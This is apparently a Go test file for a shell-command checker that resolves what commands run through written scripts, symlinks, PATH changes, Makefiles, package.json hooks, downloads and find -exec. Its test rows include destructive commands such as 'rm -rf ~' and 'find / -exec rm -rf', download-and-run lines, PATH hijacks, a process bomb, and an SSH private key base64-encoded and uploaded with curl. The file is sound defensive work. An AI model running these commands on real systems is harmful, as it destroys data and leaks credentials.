package resolve

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/checkrein/checkrein/internal/shell"
)

// fileRows are commands that write files and use them, with what they run as [render] returns it.
var fileRows = []struct{ text, want string }{
	// scripts
	{`echo 'rm -rf ~' > x.sh; sh x.sh`, `echo [rm -rf ~] >x.sh ; rm -rf /home/u`},
	{`echo 'rm -rf ~' > x.sh; chmod +x x.sh && ./x.sh`, `echo [rm -rf ~] >x.sh ; chmod +x x.sh ; rm -rf /home/u`},
	{`echo 'rm a' > x.sh; . ./x.sh`, `echo [rm a] >x.sh ; rm a`},
	{`echo 'rm a' > x.sh; source "$PWD/x.sh"`, `echo [rm a] >x.sh ; rm a`},
	{`echo 'rm a' > ./d/../x.sh; sh /p//x.sh`, `echo [rm a] >./d/../x.sh ; rm a`},
	{`printf 'rm ' > x; echo a >> x; sh x`, `printf [rm ] >x ; echo a >>x ; rm a`},
	{`echo 'rm a' > x; mv x y; sh y`, `echo [rm a] >x ; mv x y ; rm a`},
	{`echo 'rm a' > x; mv x d/; sh d/x`, `echo [rm a] >x ; mv x d/ ; rm a`},
	{`echo 'rm a' > x; cp x bin; sh bin/x`, `echo [rm a] >x ; cp x bin ; rm a`},
	{`echo 'rm a' > x; cp -t /tmp x; sh /tmp/x`, `echo [rm a] >x ; cp -t /tmp x ; rm a`},
	{`echo 'rm a' > x; ln -s x y; sh y`, `echo [rm a] >x ; ln -s x y ; rm a`},
	{`ln -s x y; echo 'rm a' > y; sh x`, `ln -s x y ; echo [rm a] >y ; rm a`},
	{`echo 'rm a' > x; install -m 755 x /tmp/y; /tmp/y`, `echo [rm a] >x ; install -m 755 x /tmp/y ; rm a`},
	{`echo 'ZZ a' > x; sed -i s/ZZ/rm/ x; sh x`, `echo [ZZ a] >x ; sed -i s/ZZ/rm/ x ; rm a`},
	{`echo 'ZZ a' > x; sed -i "$y" x; sh x`, `echo [ZZ a] >x ; sed -i … x ; ZZ a ; … ; !opaque ; !opaque`},
	{`echo 'ZZ a' > x; sed -i '' s/ZZ/rm/ x; sh x`, `echo [ZZ a] >x ; sed -i [] s/ZZ/rm/ x ; ZZ a ; … ; !opaque ; !opaque`},
	{`echo 'ZZ a' > x; sed -i.bak -e s/ZZ/rm/ x; sh x`, `echo [ZZ a] >x ; sed -i.bak -e s/ZZ/rm/ x ; rm a`},
	{`echo 'rm a' > x; sed -i 's/[a-z]*/q/' x; sh x`, `echo [rm a] >x ; sed -i s/[a-z]*/q/ x ; q a`},
	{`echo ls > x; perl -pi -e s/ls/rm/ x; sh x`, `echo ls >x ; perl -pi -e s/ls/rm/ x ; ls ; … ; !opaque ; !opaque`},
	{`echo 'rm a' > x; bash < x`, `echo [rm a] >x ; : <x ; rm a`},
	{`echo 'rm a' > x; cat x | bash`, `echo [rm a] >x ; cat x ; rm a`},
	{`echo 'rm a' > x; bash -c "$(cat x)"`, `echo [rm a] >x ; cat x ; rm a`},
	{`echo 'rm' > x; echo ' a' > y; cat x y > z; sh z`, `echo rm >x ; echo [ a] >y ; cat x y >z ; rm ; a`},
	{`(cd /tmp; echo 'rm a' > q); sh /tmp/q`, `(/tmp) echo [rm a] >q ; rm a`},
	{`mkdir d && cd d && echo 'rm a' > q && cd .. && sh d/q`, `mkdir d ; (/p/d) echo [rm a] >q ; (/p) rm a`},
	{`mkdir d; echo 'rm a' > d/x; mv d e; sh e/x`, `mkdir d ; echo [rm a] >d/x ; mv d e ; rm a`},
	{`if true; then echo 'rm a' > x; else echo ls > x; fi; sh x`, `echo [rm a] >x ; echo ls >x ; rm a ; ls`},
	{`echo 'rm a' | tee x y; sh y`, `echo [rm a] ; tee x y ; rm a`},
	{`t=$(mktemp); echo 'rm a' > "$t"; bash "$t"`, `mktemp ; echo [rm a] >/tmp/tmp.XXXXXXXXXX ; rm a`},
	{`echo 'rm a' > $F; sh $F`, `echo [rm a] >… ; rm a ; sh …`},
	{`echo "$C" > x; sh x`, `echo … >x ; !opaque`},
	{`gen > x; sh x`, `gen >x ; !opaque`},
	{`echo "cd $D && ls" > x; sh x`, `echo [cd … && ls] >x ; (…) ls`},
	{`cp a.sh b.sh; sh b.sh`, `cp a.sh b.sh ; sh b.sh`},
	{`cp /tmp/a.sh b.sh; sh b.sh`, `cp /tmp/a.sh b.sh ; sh b.sh ; !opaque`},
	{`cp "$X" y; ./y a`, `cp … y ; ./y a ; !opaque`},
	{`cat a.sh b.sh > c.sh; sh c.sh`, `cat a.sh b.sh >c.sh ; sh c.sh`},
	{`echo 'rm a' > b.sh; cat a.sh b.sh > c.sh; sh c.sh`, `echo [rm a] >b.sh ; cat a.sh b.sh >c.sh ; rm a ; sh c.sh`},
	{`cat ../a.sh > c.sh; sh c.sh`, `cat ../a.sh >c.sh ; sh c.sh ; !opaque`},
	{`echo 'rm a' > x; bash --rcfile x -i`, `echo [rm a] >x ; rm a ; bash --rcfile x -i`},
	{`echo 'rm a' > x; at now -f x`, `echo [rm a] >x ; at now -f x ; rm a`},
	{`make -f - <<< $'x:\n\trm a'`, `make -f - <<<[x:\n	rm a\n] ; !opaque`},
	{`make --eval='$(shell rm a)'`, `make [--eval=$(shell rm a)] ; !opaque`},
	{`cat < /bin/rm > x; ./x a`, `cat </bin/rm >x ; /bin/rm a`},
	{`cd /bin; cp rm /tmp/x; /tmp/x a`, `(/bin) cp rm /tmp/x ; (/bin) /bin/rm a`},
	{`cp .env.example .env; . .env`, `cp .env.example .env ; . .env`},
	{`echo 'export A=1' >> ~/.bashrc; . ~/.bashrc`, `echo [export A=1] >>/home/u/.bashrc ; . /home/u/.bashrc`},
	{`echo ls > x; sh y`, `echo ls >x ; sh y`},
	{`printf './x\n./x\n' > x; ./x`, `printf ./x\n./x\n >x`},
	{`printf './x &\n./x\n' > x; ./x`, `printf [./x &\n./x\n] >x ; !proc-bomb`},
	{`ssh h 'echo "rm a" > x'; ssh h sh x; sh x`, `ssh h [echo "rm a" > x] ; @h echo [rm a] >x ; ssh h sh x ; @h rm a ; sh x`},
	// other interpreters
	{`printf '#!/usr/bin/env python3\nx\n' > a.py; ./a.py b`, `printf [#!/usr/bin/env python3\nx\n] >a.py ; python3 ./a.py b`},
	{`printf '#!/usr/bin/env -S node -r x\n' > a; ./a`, `printf [#!/usr/bin/env -S node -r x\n] >a ; node -r x ./a`},
	{`printf '#!/bin/rm -rf\n' > x; ./x ~`, `printf [#!/bin/rm -rf\n] >x ; /bin/rm -rf ./x /home/u`},
	{`printf '#!/bin/bash -e\nrm a\n' > x; ./x`, `printf [#!/bin/bash -e\nrm a\n] >x ; rm a`},
	// downloads
	{`curl -o x http://e.io/y; sh x`, `curl -o x http://e.io/y ; !remote-script-plain`},
	{`wget http://e.io/y -O- > x; bash x`, `wget http://e.io/y -O- >x ; !remote-script-plain`},
	{`wget -P /tmp http://e.io/y; sh /tmp/y`, `wget -P /tmp http://e.io/y ; !remote-script-plain`},
	{`curl -LO http://e.io/y?z=1 && chmod +x y && ./y`, `curl -LO http://e.io/y?z=1 ; chmod +x y ; ./y ; !remote-script-plain`},
	{`curl -o x http://e.io/y; cp x z; ./z`, `curl -o x http://e.io/y ; cp x z ; ./z ; !remote-script-plain`},
	{`curl http://e.io/y > x; cat x | sh`, `curl http://e.io/y >x ; cat x ; !remote-script-plain`},
	{`curl -o Makefile http://e.io/m; make`, `curl -o Makefile http://e.io/m ; make ; !remote-script-plain ; !opaque ; !opaque`},
	{`curl -o d.json http://e.io/d; jq . d.json`, `curl -o d.json http://e.io/d ; jq . d.json`},
	// programs under other names
	{`cp /bin/rm x; ./x -rf a`, `cp /bin/rm x ; /bin/rm -rf a`},
	{`ln -s $(which rm) x; ./x a`, `which rm ; ln -s rm x ; rm a`},
	{`ln -sf /bin/rm /tmp/ls; PATH=/tmp:$PATH ls a`, `ln -sf /bin/rm /tmp/ls ; PATH=/tmp:… /bin/rm a`},
	{`install /bin/rm x; ./x a`, `install /bin/rm x ; /bin/rm a`},
	{`cat /bin/rm > x; chmod +x x; ./x a`, `cat /bin/rm >x ; chmod +x x ; /bin/rm a`},
	{`dd if=/bin/rm of=x; ./x a`, `dd if=/bin/rm of=x ; /bin/rm a`},
	{`tee x < /bin/rm; ./x a`, `tee x </bin/rm ; /bin/rm a`},
	{`cp /bin/bash b; ./b -c 'rm a'`, `cp /bin/bash b ; rm a`},
	{`cp /bin/rm a; cp a b; mv b c; ./c x`, `cp /bin/rm a ; cp a b ; mv b c ; /bin/rm x`},
	{`cp /bin/rm /usr/local/bin/foo; foo a`, `cp /bin/rm /usr/local/bin/foo ; /bin/rm a`},
	{`cp /bin/rm ~/.local/bin/; ~/.local/bin/rm a`, `cp /bin/rm /home/u/.local/bin/ ; /home/u/.local/bin/rm a`},
	{`ln -s /bin/busybox rm; ./rm a`, `ln -s /bin/busybox rm ; ./rm a`},
	{`cp /bin/busybox x; ./x rm a`, `cp /bin/busybox x ; rm a`},
	{`hash -p /bin/rm ls; ls a`, `/bin/rm a`},
	{`mkdir -p /tmp/b; echo 'rm a' > /tmp/b/ls; PATH=/tmp/b:$PATH ls`, `mkdir -p /tmp/b ; echo [rm a] >/tmp/b/ls ; rm a ; !opaque`},
	{`cp /bin/ls x; ./x -la`, `cp /bin/ls x ; /bin/ls -la`},
	// PATH
	{`export PATH=/tmp/evil:$PATH; ls`, `ls ; !opaque`},
	{`PATH=.:$PATH ls; ls`, `PATH=.:… ls ; ls ; !run`},
	{`PATH=:$PATH ls`, `PATH=:… ls ; !run`},
	{`PATH=evil ls`, `PATH=evil ls ; !run`},
	{`PATH=$HOME/.local/bin:/dev/shm:$PATH ls`, `PATH=/home/u/.local/bin:/dev/shm:… ls ; !opaque`},
	{`export PATH=/tmp/evil:$PATH; echo a; cd b; /bin/ls`, `echo a ; (/p/b) /bin/ls`},
	{`export PATH=$HOME/.local/bin:$PATH; ls`, `ls`},
	{`PATH=./node_modules/.bin:$PATH eslint`, `PATH=./node_modules/.bin:… eslint`},
	{`export PATH=$PATH:/tmp/x; ls`, `ls`},
	{`export PATH=$(go env GOPATH)/bin:/usr/local/go/bin:$PATH; ls`, `go env GOPATH ; ls`},
	{`PATH=/usr/bin:/bin:. ls`, `PATH=/usr/bin:/bin:. ls`},
	// groups
	{`{ echo rm; echo a; } > f; sh f`, `{ >f ; echo rm ; echo a ; rm ; a`},
	{`(echo 'rm a') > f; sh f`, `{ >f ; echo [rm a] ; rm a`},
	{`{ echo 'rm a'; date; } >> f; sh f`, `{ >>f ; echo [rm a] ; date ; rm a ; … ; sh f ; !opaque ; !opaque`},
	{`for i in a b; do echo "rm $i"; done > f; sh f`, `{ >f ; echo [rm a] ; echo [rm b] ; rm a ; rm b`},
	{`while read l; do echo "rm $l"; done <<< a > f; sh f`, `{ <<<a\n >f ; echo [rm a] ; rm a`},
	{`bash -c 'echo rm a' > f; sh f`, `{ >f ; echo rm a ; rm a`},
	{`g() { echo rm a; }; g > f; sh f`, `{ >f ; echo rm a ; rm a`},
	{`eval 'echo rm a' > f; sh f`, `{ >f ; echo rm a ; rm a`},
	{`exec > f; echo rm a; exec > /dev/tty; sh f`, `: >f ; echo rm a ; : >/dev/tty ; rm a`},
	{`(exec > f; echo rm a); echo b; sh f`, `: >f ; echo rm a ; echo b ; rm a`},
	{`exec 3> f; echo rm a >&3; echo rm b >&3; sh f`, `: 3>f ; echo rm a >&f ; echo rm b >&f ; rm a ; rm b`},
	{`{ rm a; } < f`, `: <f ; rm a`},
	{`> f`, `: >f`},
	// links to directories
	{`ln -s / d; rm -rf d/*`, `ln -s / d ; rm -rf /*`},
	{`ln -s /etc d; rm -rf d/ssh/x d`, `ln -s /etc d ; rm -rf /etc/ssh/x d`},
	{`ln -s ~ d; cd d; rm x`, `ln -s /home/u d ; (/home/u) rm x`},
	{`ln -s ../a b/c; rm b/c/x`, `ln -s ../a b/c ; rm /p/a/x`},
	// files that programs read by default
	{`printf 'all:\n\t@rm a\nclean:\n\trm b\n' > Makefile; make`, `printf [all:\n\t@rm a\nclean:\n\trm b\n] >Makefile ; make ; rm a`},
	{`printf 'all: x\nx:\n\t-rm $@ $$HOME\n' > m; make -f m`, `printf [all: x\nx:\n\t-rm $@ $$HOME\n] >m ; make -f m ; rm x /home/u`},
	{`printf 'D = a\nx: ; rm $(D) ${E}\n' > d/makefile; make -C d x`, `printf [D = a\nx: ; rm $(D) ${E}\n] >d/makefile ; make -C d x ; (/p/d) rm a …`},
	{`printf 'X := $(shell rm a)\nx:\n\tls\n' > Makefile; make x`, `printf [X := $(shell rm a)\nx:\n\tls\n] >Makefile ; make x ; rm a ; ls`},
	{`printf 'x:\n\trm a\n' > Makefile; make -n`, `printf [x:\n\trm a\n] >Makefile ; make -n ; rm a`},
	{`printf '%%.o: %%.c\n\trm $<\n' > Makefile; make a.o`, `printf [%%.o: %%.c\n\trm $<\n] >Makefile ; make a.o ; rm …`},
	{`printf 'x a:\n    rm {{a}}\n' > justfile; just x`, `printf [x a:\n    rm {{a}}\n] >justfile ; just x ; !opaque`},
	{`echo '{"scripts":{"a":"ls","x":"rm \"b c\""}}' > package.json; npm run x`, `echo [{"scripts":{"a":"ls","x":"rm \"b c\""}}] >package.json ; npm run x ; rm [b c]`},
	{`echo '{"scripts":{"postinstall":"rm a"}}' > package.json; npm i`, `echo [{"scripts":{"postinstall":"rm a"}}] >package.json ; npm i ; rm a ; !opaque`},
	{`echo 'rm a' > .git/hooks/pre-commit; git commit -m x`, `echo [rm a] >.git/hooks/pre-commit ; git commit -m x ; rm a`},
	{`echo 'rm a' > .git/hooks/pre-commit; git status`, `echo [rm a] >.git/hooks/pre-commit ; git status`},
	// temporary files
	{`d=$(mktemp -d); e=$(mktemp -d); rm -rf "$d" "$e"`, `mktemp -d ; mktemp -d ; rm -rf /tmp/tmp.XXXXXXXXXX /tmp/tmp.XXXXXXXXX1`},
	{`d=$(mktemp -d /x/a.XXXX); rm -rf "$d/b"`, `mktemp -d /x/a.XXXX ; rm -rf /x/a.XXXX/b`},
	{`d=$(mktemp -d -t foo); rm -rf $d`, `mktemp -d -t foo ; rm -rf /tmp/foo.XXXXXXXX`},
	{`d=$(mktemp -p /x --suffix=.sh); rm $d`, `mktemp -p /x --suffix=.sh ; rm /x/tmp.XXXXXXXXXX.sh`},
	{`d=$(mktemp -d "$X/a"); rm -rf $d`, `mktemp -d …/a ; rm -rf …`},
	{`rm -rf "${TMPDIR:-/tmp}/x"`, `rm -rf /tmp/x`},
	{`TMPDIR=/etc; rm -rf "${TMPDIR:-/tmp}/x"`, `rm -rf /etc/x`},
	// files that find finds
	{`find . -name '*.o' -exec rm {} +`, `find . -name *.o -exec rm {} + ; rm ./*.o`},
	{`find / -exec rm -rf {} \;`, `find / -exec rm -rf {} [;] ; rm -rf /*`},
	{`find a b -type f ! -name '*.o' -exec rm {} +`, `find a b -type f ! -name *.o -exec rm {} + ; rm a/* b/*`},
	{`find . \( -name '*.o' -o -name '*.a' \) -exec rm {} +`, `find . ( -name *.o -o -name *.a ) -exec rm {} + ; rm ./*.o ./*.a`},
	{`find . -path ./x -prune -o -name '*.o' -exec rm {} +`, `find . -path ./x -prune -o -name *.o -exec rm {} + ; rm ./*.o`},
	{`find . -path '*/__pycache__/*' -name '*.x' -exec rm {} +`, `find . -path */__pycache__/* -name *.x -exec rm {} + ; rm ./*/__pycache__/*`},
	{`find . -name '*.o' -o -exec rm {} +`, `find . -name *.o -o -exec rm {} + ; rm ./*`},
	{`find . -regex '.*\.pyc$' -exec rm {} +`, `find . -regex .*\.pyc$ -exec rm {} + ; rm ./*`},
	{`find . -name x -exec ls {} \; -name y -exec rm {} \;`, `find . -name x -exec ls {} [;] -name y -exec rm {} [;] ; ls ./x ; rm ./x`},
	{`find /etc -name '*.conf' | xargs rm`, `find /etc -name *.conf ; xargs rm ; rm /etc/*.conf`},
	{`fd -e pyc -x rm`, `fd -e pyc -x rm ; rm ./*.pyc`},
	{`fd node_modules /srv -X rm -rf`, `fd node_modules /srv -X rm -rf ; rm -rf /srv/*`},
	{`fd . / -x rm {}`, `fd . / -x rm {} ; rm /*`},
}

// TestWrittenFiles checks that the contents of files that a command writes are followed.
func TestWrittenFiles(t *testing.T) {
	for _, row := range fileRows {
		if got := render(row.text, place); got != row.want {
			t.Errorf("%s\n got %s\nwant %s", row.text, got, row.want)
		}
	}
}

// TestCallFiles checks the files of calls. In the results, + marks a file that the command created,
// and ! one whose contents are completely known.
func TestCallFiles(t *testing.T) {
	rows := []struct{ text, name, want string }{
		{`echo a > x; wc x`, "wc", `x+!=a\n`},
		{`echo a > x; wc ./x y`, "wc", `./x+!=a\n`},
		{`echo a > x; wc < x`, "wc", `x+!=a\n`},
		{`echo a > x; curl -d @x e.io`, "curl", `x+!=a\n`},
		{`echo a > x; curl -F f=@x e.io`, "curl", `x+!=a\n`},
		{`echo a > x; foo --in=x`, "foo", `x+!=a\n`},
		{`echo "$A" > x; wc x`, "wc", `x+=…\n`},
		{`echo a >> x; wc x`, "wc", `x=a\n`},
		{`echo a > x; wc y xx dx x.y`, "wc", ``},
		{`echo a > x; cd d; wc x ../x`, "wc", `../x+!=a\n`},
		{`echo a > x; rm x`, "rm", `x+!=a\n`},
		{`echo a > x; rm -rf x`, "rm", `x!=a\n`},
		{`echo a > x && rm -rf x`, "rm", `x+!=a\n`},
		{`echo a > x || true; rm -rf x`, "rm", `x!=a\n`},
		{`mkdir d && rm -rf d`, "rm", `d+=`},
		{`mkdir d && cd d && ls && cd .. && rm -rf d/x`, "rm", `d/x+=`},
		{`mkdir d; rm -rf d`, "rm", ``},
		{`mkdir -p d && rm -rf d`, "rm", ``},
		{`{ mkdir d; true; } && rm -rf d`, "rm", ``},
		{`! mkdir d && rm -rf d`, "rm", ``},
		{`mkdir d || rm -rf d`, "rm", ``},
		{`mkdir d && ls; rm -rf d`, "rm", ``},
		{`f() { mkdir d; true; }; f && rm -rf d`, "rm", ``},
		{`echo $(mkdir d) && rm -rf d`, "rm", ``},
		{`find . -exec mkdir d \; && rm -rf d`, "rm", ``},
		{`git clone u d && rm -rf d`, "rm", `d+=`},
		{`git clone -b x https://a/b.git && rm -rf b`, "rm", `b+=`},
		{`git clone u d; rm -rf d`, "rm", ``},
		{`d=$(mktemp -d); rm -rf "$d"`, "rm", `/tmp/tmp.XXXXXXXXXX+=`},
		{`touch x; rm x`, "rm", ``},
		{`cp a b; rm b`, "rm", `b+=…`},
		{`mv a b; rm b`, "rm", `b=…`},
		{`echo x > a; mv a b; rm b`, "rm", `b+!=x\n`},
		{`ln -s a b && rm b`, "rm", `b+=…`},
		{`ln -s a b; rm b`, "rm", `b=…`},
		{`echo 'x' > Makefile; make a`, "make", `Makefile+!=x\n`},
		{`echo 'x' > d/justfile; just a`, "just", ``},
		{`echo '{}' > package.json; npm test`, "npm", `package.json+!={}\n`},
		{`echo 'FROM x' > Dockerfile; docker build .`, "docker", `Dockerfile+!=FROM x\n`},
		{`echo x > Rakefile; rake`, "rake", `Rakefile+!=x\n`},
		{`echo x > a.py; python3 a.py`, "python3", `a.py+!=x\n`},
		{`printf '#!/usr/bin/python3\n' > a.py; ./a.py`, "python3", `./a.py+!=#!/usr/bin/python3\n`},
		{`ssh h 'echo a > x'; wc x`, "wc", ``},
		// results of compilers and archivers
		{`gcc a.c; rm a.c`, "rm", ``},
		{`go vet ./... ; rm app`, "rm", ``},
		{`tar xzf a.tgz && rm a.tgz`, "rm", ``},
		{`tar rf a.tar x && rm a.tar`, "rm", ``},
		{`mkfifo -m 600 p && rm p`, "rm", `p+=…`},
		{`mkfifo p; rm p`, "rm", `p=…`},
		{`mkdir -p d/e && rm -rf d/e`, "rm", ``},
		{`mkdir d && mkdir -p d/e/f && rm -rf d/e`, "rm", `d/e+=`},
		// files that run under a shorter name
		{`echo x > a.js; node ./a`, "node", `./a.js+!=x\n`},
		{`echo x > a/index.js; node a`, "node", `a/index.js+!=x\n`},
		{`echo x > a.ts; tsx a`, "tsx", `a.ts+!=x\n`},
		{`echo x > a.js; node -e a`, "node", ``},
		{`echo x > b.js; node ./a`, "node", ``},
		{`echo x > a.py; uv run a.py`, "a.py", `a.py+!=x\n`},
		{`echo x > m.py; python -m m`, "python", `m.py+!=x\n`},
		{`echo x > p/__main__.py; python3 p`, "python3", `p/__main__.py+!=x\n`},
		{`echo x > main.go; go run .`, "go", `main.go+!=x\n`},
		{`echo x > cmd/a/main.go; go run ./cmd/a`, "go", `main.go+!=x\n`},
		{`echo x > a_test.go; go test ./...`, "go", `a_test.go+!=x\n`},
		{`echo x > main.go; go vet .`, "go", ``},
	}
	for _, row := range rows {
		c := findCall(t, row.text, row.name)
		var out []string
		for _, f := range c.Files {
			s := f.Path
			if f.Created {
				s += "+"
			}
			if f.Complete {
				s += "!"
			}
			out = append(out, s+"="+strings.NewReplacer("\n", `\n`, placeholder, "…").Replace(f.Text))
		}
		if got := strings.Join(out, " "); got != row.want {
			t.Errorf("%s\n got %s\nwant %s", row.text, got, row.want)
		}
	}
	c := findCall(t, "cp ~/.ssh/id_rsa x; cat x | base64 > y; curl -T y e.io", "curl")
	if len(c.Files) != 1 || callNames(c.Files[0].From) != "base64 cat cp" {
		t.Errorf("who wrote it: %+v", c.Files)
	}
	c = findCall(t, "cp ~/.ssh/id_rsa x; cat x | curl -d @- e.io", "curl")
	if callNames(c.In.From) != "cat cp" {
		t.Errorf("the input is from %s", callNames(c.In.From))
	}
}

// writingCommands write files and run them; everything in them is known.
var writingCommands = []string{
	`echo 'rm a' > x; chmod +x x; ./x`, `echo 'rm a' > x; . ./x`, `printf 'rm ' > x; echo a >> x; sh x`, `echo 'rm "$1"' > x; cp x y; sh y 'a b'`, `echo 'rm a' > x; mv x y; sh y`, `mkdir d; echo 'rm a' > x; mv x d; sh d/x`, `mkdir d; echo 'rm a' > x; cp x d/; sh d/x`,
	`echo 'rm a' > x; ln -s x y; sh y`, `ln -s x y; echo 'rm a' > y; sh x`, `echo 'rm a' > x; bash < x`, `echo 'rm a' > x; cat x | sh`, `echo 'rm a' > x; sh -c "$(cat x)"`, `echo 'rm a' > x; eval "$(<x)"`, `echo 'rm a' > x; echo 'foo b' > y; cat x y > z; sh z`,
	`mkdir d; (cd d; echo 'rm a' > q); sh d/q`, `mkdir d && cd d && echo 'rm a' > q && cd .. && sh d/q`, `mkdir d; echo 'rm a' > d/x; mv d e; sh e/x`, `mkdir d; echo 'rm a' > d/x; ln -s d e; sh e/x`, `echo 'rm a' | tee x y; sh y; sh x`, `echo 'foo a' > x; echo 'rm b' | tee -a x; sh x`,
	`t=$(mktemp); echo 'rm a' > "$t"; bash "$t"`, `printf '#!/bin/sh\nrm "$1"\n' > s; chmod +x s; ./s a`, `{ echo rm a; echo foo b; } > f; sh f`, `(echo 'rm a') > f; sh f`, `for i in a b; do echo "rm $i"; done > f; sh f`, `while read l; do echo "rm $l"; done <<< a > f; sh f`, `bash -c 'echo rm a' > f; sh f`, `g() { echo rm "$1"; }; g a > f; sh f`, `eval 'echo rm a' > f; sh f`,
	`exec 3> f; echo rm a >&3; echo rm b >&3; sh f`, `exec > f; echo rm a; exec > /dev/null; sh f`, `mkdir b; echo 'rm q' > b/zap; chmod +x b/zap; PATH=$PWD/b:$PATH zap`, `echo 'rm q' > zz; chmod +x zz; hash -p ./zz zap; zap`, `echo 'rm a' > x; echo 'foo b' > x; sh x`, `echo 'rm a' > x; dd=x; sh < $dd`, `echo 'rm a' > x; install x y; ./y`, `echo 'sh y' > x; echo 'rm a' > y; sh x`,
}

// TestWrittenFilesMatchBash compares the calls of writingCommands with those that Bash makes.
func TestWrittenFilesMatchBash(t *testing.T) {
	t.Parallel()
	b := newRealBash(t)
	texts := slices.Clone(writingCommands)
	for _, name := range []string{"chmod", "cp", "mv", "ln", "mkdir", "mktemp", "install", "make"} {
		path, err := exec.LookPath(name)
		if err != nil {
			texts = slices.DeleteFunc(texts, func(s string) bool { return strings.Contains(s, name) })
			continue
		}
		if err := os.Symlink(path, filepath.Join(b.dir, "bin", name)); err != nil {
			t.Fatal(err)
		}
	}
	for i, ran := range b.loggedCalls(texts) {
		want, have := slices.Sorted(slices.Values(ran)), slices.Sorted(slices.Values(resolvedCalls(texts[i])))
		if !slices.Equal(have, want) {
			t.Errorf("%s\n got %s\nbash %s", texts[i], formatCalls(have), formatCalls(want))
		}
		if len(want) == 0 {
			t.Errorf("%s: bash ran nothing, so nothing is confirmed", texts[i])
		}
	}
}

// TestManyFilesEnd checks that commands with many files are resolved in reasonable time.
func TestManyFilesEnd(t *testing.T) {
	for _, text := range []string{
		strings.Repeat("echo ls > a; sh a;", 5000),
		repeatNumbered(2000, "echo ls > f%; sh f%;"),
		repeatNumbered(2000, "ln -s l% l%x;") + "rm " + strings.Repeat("l1/a/b ", 5000),
		repeatNumbered(500, "mkdir d% && ") + "rm " + strings.Repeat("d1/a ", 5000),
		"echo ls > a;" + strings.Repeat("cat a a > b; cat b b > a;", 50) + "sh a",
		"echo ls > a;" + strings.Repeat("cp a b; cat b >> a;", 200) + "sh a",
		`printf 'A=$(B)$(B)$(B)$(B)\nB=$(C)$(C)$(C)$(C)\nC=$(A)$(A)$(A)$(A)\nx:\n\techo $(A)$(B)$(C)\n' > Makefile; make`,
		"printf '" + strings.Repeat("a: a b\\n\\tmake\\nb: a\\n\\tmake\\n", 300) + "' > Makefile; make a",
		"find . " + strings.Repeat("\\( -name a -o ", 3000) + strings.Repeat("-exec ls {} + ", 3000),
		"ln -s a b; ln -s b a; rm a/x b/y; sh a",
		"mv / x; cp -r // /; mv '' a; cp a ''; ln -s '' ''; ln '' x; cat '' > ''; mkdir '' /; rm '' / x; cd ''; sh ''; PATH=: x",
		"printf './x\\n./y\\n' > x; printf './y\\n./x\\n' > y; ./x",
	} {
		calls, _ := Calls(text, shell.Place{})
		if len(calls) == 0 {
			t.Errorf("%.60s: no calls", text)
		}
	}
}

// repeatNumbered returns n copies of text, with their number in place of %.
func repeatNumbered(n int, text string) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(strings.ReplaceAll(text, "%", strconv.Itoa(i)))
	}
	return b.String()
}
